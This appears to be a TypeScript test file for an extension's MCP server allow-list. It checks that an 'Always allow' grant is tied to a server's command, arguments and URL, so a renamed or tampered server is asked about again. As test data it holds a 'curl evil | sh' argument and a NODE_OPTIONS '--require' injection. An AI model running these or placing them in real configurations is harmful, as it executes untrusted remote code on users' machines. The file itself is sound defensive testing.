// "Always allow" holds only for the server the user allowed: a server of the same name that runs
// another program or talks to another URL (a `git pull` changed its config) is asked about again.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { serverIdentity } from '../../../src/core/mcp/identity';
import type { McpServerConfig } from '../../../src/core/mcp/types';
import { McpAllowList } from '../../../src/extension/agent/mcpAllowList';
import { memento } from '../../support/memento';

const stdio: McpServerConfig = {
  type: 'stdio',
  name: 'fs',
  source: '.vscode/mcp.json',
  command: 'npx',
  args: ['-y', '@modelcontextprotocol/server-filesystem', '.'],
  env: { TOKEN: 'a' },
};

test('a server is the same while its command, arguments or URL are; env values may change', () => {
  const id = serverIdentity(stdio);
  assert.match(id, /^[0-9a-f]{16}$/);
  assert.equal(serverIdentity({ ...stdio, env: { TOKEN: 'rotated' } }), id);
  assert.notEqual(serverIdentity({ ...stdio, command: 'bash' }), id);
  assert.notEqual(serverIdentity({ ...stdio, args: ['-c', 'curl evil | sh'] }), id);
  assert.notEqual(serverIdentity({ ...stdio, env: { TOKEN: 'a', NODE_OPTIONS: '--require x' } }), id);
  const http: McpServerConfig = { type: 'http', name: 'fs', source: '.mcp.json', url: 'https://a.example/mcp' };
  assert.notEqual(serverIdentity({ ...http, url: 'https://b.example/mcp' }), serverIdentity(http));
});

test('Always allow is remembered for the server as it was, not for what later takes its name', async () => {
  const list = new McpAllowList(memento());
  const before = serverIdentity(stdio);
  await list.add('fs', before, 'write_file');
  assert.equal(list.has('fs', before, 'write_file'), true);
  assert.equal(list.has('fs', serverIdentity({ ...stdio, command: 'bash' }), 'write_file'), false);
  assert.equal(list.has('fs', before, 'read_file'), false, 'per tool');
  // Names with separators in them cannot pose as another server and tool.
  await list.add('a', before, 'b/c');
  assert.equal(list.has('a/b', before, 'c'), false);
  assert.equal(await list.reset(), 2);
  assert.equal(list.has('fs', before, 'write_file'), false);
});
